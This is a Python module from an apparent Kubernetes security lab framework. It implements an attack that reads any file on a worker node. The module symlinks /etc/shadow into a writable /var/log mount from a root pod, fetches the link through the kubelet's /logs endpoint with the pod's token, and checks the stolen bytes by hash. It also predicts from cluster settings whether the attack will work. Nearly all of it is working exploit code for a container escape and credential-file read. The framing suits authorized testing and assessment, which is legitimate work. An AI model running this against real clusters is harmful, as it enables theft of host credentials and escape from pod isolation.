"""Read any file of a worker through the kubelet's log endpoint and a symbolic link.

The kubelet serves ``/var/log`` as root and follows symbolic links. The attacker needs a pod that
can write to this folder as root, as log collectors often can, and the right to get ``nodes/log``.
They link to ``/etc/shadow`` and ask the kubelet for the link. It stops if the pod does not mount
``/var/log`` writable, or if the kubelet does not serve the machine's logs.
"""

from __future__ import annotations

import hashlib
import secrets
from typing import TYPE_CHECKING

from labkit.cluster.syntax.source import bool_of
from labkit.errors import ProbeError
from labkit.lab.traces import Trace, leaving
from labkit.model import Foothold, Model
from labkit.model.decision import ALLOWED, Action, decide_at_kubelet
from labkit.model.rights import bearer_at_kubelet
from labkit.model.workloads import mounted, token_caller, token_in, user_of
from labkit.techniques._lib.api.ask import ask
from labkit.techniques._lib.api.kubelet import CHANNEL, as_apiserver, kubelet_url
from labkit.techniques._lib.machines.pod import find_pod, run_in_pod, token_of, without_token
from labkit.techniques._lib.machines.reach import Answer, curl_config, digest, run
from labkit.techniques._lib.technique import POD, Prediction, Technique, all_of, holds
from labkit.techniques._lib.verdict import Setting, Verdict

if TYPE_CHECKING:
    from labkit.cluster import Environment
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

AGENT = ("monitoring", "agent")
KUBELET, WORKER = "kubelet@worker1", "worker1"
LOGS, ONLY_ROOT_READS = "/var/log", "/etc/shadow"
#: The first enables all log endpoints, the second those of the machine.
HANDLERS = ("enableDebuggingHandlers", "enableSystemLogHandler")
ACTION = Action("get", "nodes/log", name=WORKER)


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict from the mount, the pod's user, its rights and the kubelet's log handlers."""
    env, kubelet = model.environment, model.environment.component(KUBELET)
    folder, user = mounted(env, *AGENT, LOGS), user_of(env, *AGENT)
    if folder.value != "writable":
        return Prediction(False, (str(folder),))
    if user.value != "0":
        return Prediction(False, (f"{LOGS} is root's: {user.source}",))
    agent = token_caller(env, *AGENT)
    if agent is None:
        return Prediction(False, (str(token_in(env, *AGENT)),))
    found = decide_at_kubelet(env, kubelet, bearer_at_kubelet(env, kubelet, agent), ACTION)
    handlers = [kubelet.setting(name) for name in HANDLERS]
    return all_of(
        Prediction(True, (str(folder),)),
        holds(found.claim, ALLOWED),
        *(Prediction(bool_of(it.value), (str(it.source),)) for it in handlers),
    )


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Create a link to a file from the agent's pod, and ask the kubelet for it."""
    pod, link = find_pod(lab, *AGENT), f"labkit-{secrets.token_hex(4)}"
    folder = mounted(lab.environment, *AGENT, LOGS)
    expected = digest(lab, WORKER, ONLY_ROOT_READS)
    with leaving(lab, Trace("file", f"{LOGS}/{link}", WORKER)):
        if refused := _link(lab, foothold, folder.detail if folder.value != "none" else "", link):
            return refused
        token = token_of(lab, pod)
        if token is None:
            return without_token(lab, TECHNIQUE.name, foothold, *AGENT)

        def proof(answer: Answer) -> str:
            if hashlib.sha256(answer.body).hexdigest() != expected:
                raise ProbeError(f"the kubelet answered, but not with {ONLY_ROOT_READS}")
            return f"read: {ONLY_ROOT_READS} of {WORKER}; the right bytes by their hash"

        return ask(
            lab,
            TECHNIQUE.name,
            foothold,
            kubelet_url(lab, f"/logs/{link}"),
            token=token,
            more_refusals=("HTTP 405",),
            description=f"GET /logs/LINK at {WORKER}",
            proof=proof,
            control=lambda: _answers(lab, token),
        )


def _link(lab: Lab, foothold: Foothold, folder: str, link: str) -> Verdict | None:
    """Create the link from inside the pod; return a verdict if that is refused."""
    pod = find_pod(lab, *AGENT)
    if folder:
        path = pod.path(f"{folder}/{link}")
        output = run_in_pod(lab, pod, ["ln", "--symbolic", ONLY_ROOT_READS, path])
        if not output.exit_code:
            return None
        words = ("Permission denied", "Read-only file system")
        reason = next((word.lower() for word in words if word in output.error), "")
    else:
        found = run_in_pod(lab, pod, ["ls", pod.path("/machine")])
        reason = "" if not found.exit_code else f"{LOGS} is not in the pod"
    if not reason:
        raise ProbeError("the link in /var/log was neither created nor refused")
    run(lab, WORKER, ["ln", "--symbolic", ONLY_ROOT_READS, f"{LOGS}/{link}"], check=True)
    asked = (f"tried to link to {ONLY_ROOT_READS} from {LOGS}, in monitoring/agent",)
    control = "root on the worker makes the same link"
    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, asked, control)


def _answers(lab: Lab, token: str) -> str:
    """Show that the kubelet serves the same token, or else the apiserver: the control."""
    argv = ["curl", "--silent", "--show-error", "--fail", "--insecure", "--output", "/dev/null"]
    argv += ["--config", "-", kubelet_url(lab, "/metrics")]
    if not run(lab, WORKER, argv, stdin=curl_config(token)).exit_code:
        return "with the same token, the kubelet tells its metrics"
    # a kubelet without webhook authentication accepts certificates, but no tokens
    as_apiserver(lab, "GET", "/metrics")
    return "the kubelet tells the apiserver its metrics"


def _settings(env: Environment) -> list[Setting]:
    folder, handler = mounted(env, *AGENT, LOGS), env.component(KUBELET).setting(HANDLERS[1])
    return [
        (f"{LOGS} in monitoring/agent", folder.value, str(folder.source)),
        ("whether the kubelet serves the machine's logs", handler.value, str(handler.source)),
    ]


TECHNIQUE = Technique(
    name="kubelet-log-symlink",
    title="Read any file of a worker through the kubelet's logs",
    footholds=(POD,),
    grants=(),
    about=CHANNEL,
    properties=("authorization",),
    attack=("T1611", "T1552.001"),
    stride=("information disclosure", "elevation of privilege"),
    cwe=("CWE-59", "CWE-61"),
    sources=(
        "https://blog.aquasec.com/kubernetes-security-pod-escape-log-mounts",
        "https://kubernetes.io/docs/concepts/storage/volumes/#hostpath",
        "https://attack.mitre.org/techniques/T1611/",
    ),
    predict=predict,
    execute=execute,
    leaves=("file",),
    settings=_settings,
)
